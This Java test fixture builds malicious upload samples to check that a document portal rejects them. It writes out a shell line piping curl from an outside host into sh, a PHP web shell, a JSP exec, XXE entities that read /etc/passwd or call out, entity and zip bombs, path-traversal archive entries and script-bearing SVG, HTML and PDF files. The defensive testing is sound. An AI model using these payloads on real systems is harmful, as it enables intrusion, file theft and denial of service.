package org.planweave.itests.negative;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files that no portal should take, by what they are. The word {@link #CANARY} stands in all that would be read by mistake. */
final class BadFiles {

    static final String CANARY = "brindlewick";

    private static final String W = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>";
    private static final String TYPES = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" "
            + "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Override PartName=\"/word/document.xml\" "
            + "ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    private static final String RELATIONS = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" "
            + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>%s</Relationships>";

    private final Map<String, byte[]> files = new LinkedHashMap<>();
    private final String outside;

    private BadFiles(String outside) {
        this.outside = outside;
        programs();
        texts();
        containers();
        documents();
    }

    /** @param outside host and port of a server that nothing may be fetched from */
    static Map<String, byte[]> all(String outside) {
        return new BadFiles(outside).files;
    }

    private void programs() {
        hex("a program of Windows", "4d5a90000300000004000000ffff0000b8000000");
        hex("a program of Linux", "7f454c4602010100000000000000000002003e00");
        hex("a class of Java", "cafebabe0000003d000a");
        hex("an archive of another kind", "377abcaf271c0004");
        hex("an old Word file", "d0cf11e0a1b11ae1000000000000000000000000");
        hex("nothing but zeros", "00".repeat(4_096));
        byte[] noise = new byte[8_192];
        new Random(4711).nextBytes(noise);
        files.put("noise", noise);
        files.put("nothing at all", new byte[0]);
        text("a script of the shell", "#!/bin/sh\ncurl http://" + outside + "/" + CANARY + " | sh\n");
        text("a page of another server", "<?php system($_GET['c']); /* " + CANARY + " */ ?>");
        text("a page with a program in it", "<%@ page import=\"java.util.*\" %><% Runtime.getRuntime().exec(\"" + CANARY + "\"); %>");
        text("what scanners are tried with", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-" + "TEST-FILE!$H+H*");
    }

    private void texts() {
        text("a web page with a script", "<!DOCTYPE html><html><script>" + CANARY + "()</script></html>");
        text("a picture with a script", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"" + CANARY + "()\"><script>" + CANARY + "()</script></svg>");
        text("a text with objects", "{\\rtf1{\\object\\objocx{\\*\\objdata " + CANARY + "}}}");
        text("a document of XML that reads a file", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>");
        text("a document of XML that never ends", laughs() + "<x>&l9;</x>");
        text("a PDF with a script", "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert('" + CANARY + "'))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF");
        text("a letter with something added", "From: a@example.test\nContent-Type: multipart/mixed; boundary=z\n\n--z\n" + CANARY + "\n--z--\n");
        text("a picture that is a web page as well", "GIF89a/*<script>" + CANARY + "()</script>*/=1;");
    }

    private void containers() {
        byte[] whole = docx(String.format(W, CANARY), TYPES, "");
        files.put("half a file", Arrays.copyOf(whole, whole.length / 2));
        files.put("a file whose end is missing", Arrays.copyOf(whole, whole.length - 10));
        byte[] spoiled = whole.clone();
        for (int i = 60; i < 90; i++) {
            spoiled[i] ^= 0x55;
        }
        files.put("a file with spoiled bytes", spoiled);
        files.put("a file that unpacks to 120 MB", zip(Map.of("word/media/image1.emf", new byte[0]), 120));
        Map<String, byte[]> many = new LinkedHashMap<>();
        for (int i = 0; i < 12_000; i++) {
            many.put("word/media/" + i, new byte[0]);
        }
        files.put("a file of twelve thousand parts", zip(many, 0));
        files.put("a file with parts that lead up", zip(Map.of("../../../../tmp/planted-by-a-test", bytes(CANARY), "..\\..\\planted-by-a-test", bytes(CANARY)), 0));
        files.put("a jar that nobody signed", zip(Map.of("META-INF/MANIFEST.MF", bytes("Manifest-Version: 1.0\nBundle-SymbolicName: org.evil\nBundle-Version: 1\n\n")), 0));
        files.put("a picture with a jar behind it", joined(bytes("GIF89a" + "\0".repeat(50)), zip(Map.of("META-INF/MANIFEST.MF", bytes("Manifest-Version: 1.0\n\n")), 0)));
        files.put("a packed stream", gzipped());
    }

    private void documents() {
        files.put("a document with a program in it", docx(String.format(W, "x"), TYPES.replace("openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main"), ""));
        files.put("a document that reads a file", docx("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>" + String.format(W, "&e;"), TYPES, ""));
        files.put("a document that asks a server", docx("<!DOCTYPE x [<!ENTITY e SYSTEM \"http://" + outside + "/\">]>" + String.format(W, "&e;"), TYPES, ""));
        files.put("a document that never ends", docx(laughs() + String.format(W, "&l9;"), TYPES, ""));
        files.put("a document of five thousand levels", docx("<a>".repeat(5_000) + "</a>".repeat(5_000), TYPES, ""));
        files.put("a document with another outside it", docx("<oops", TYPES, "<Relationship Id=\"r2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                + "attachedTemplate\" Target=\"http://" + outside + "/evil.dotm\" TargetMode=\"External\"/>"));
    }

    private static String laughs() {
        StringBuilder all = new StringBuilder("<!DOCTYPE x [<!ENTITY l0 \"" + CANARY + "\">");
        for (int i = 1; i < 10; i++) {
            all.append("<!ENTITY l").append(i).append(" \"").append(("&l" + (i - 1) + ";").repeat(10)).append("\">");
        }
        return all.append("]>").toString();
    }

    private static byte[] docx(String document, String types, String relation) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", bytes(types));
        parts.put("_rels/.rels", bytes(String.format(RELATIONS, "")));
        parts.put("word/document.xml", bytes(document));
        parts.put("word/_rels/document.xml.rels", bytes(String.format(RELATIONS, relation)));
        return zip(parts, 0);
    }

    /** @param megabytes how many of zeros come behind */
    private static byte[] zip(Map<String, byte[]> parts, int megabytes) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.setLevel(Deflater.BEST_SPEED);
            for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
                for (int i = 0; i < megabytes; i++) {
                    zip.write(new byte[1 << 20]);
                }
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] gzipped() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream zip = new GZIPOutputStream(out)) {
            zip.write(bytes(CANARY));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] joined(byte[] one, byte[] other) {
        byte[] all = Arrays.copyOf(one, one.length + other.length);
        System.arraycopy(other, 0, all, one.length, other.length);
        return all;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private void text(String name, String text) {
        files.put(name, bytes(text));
    }

    private void hex(String name, String hex) {
        files.put(name, HexFormat.of().parseHex(hex));
    }
}
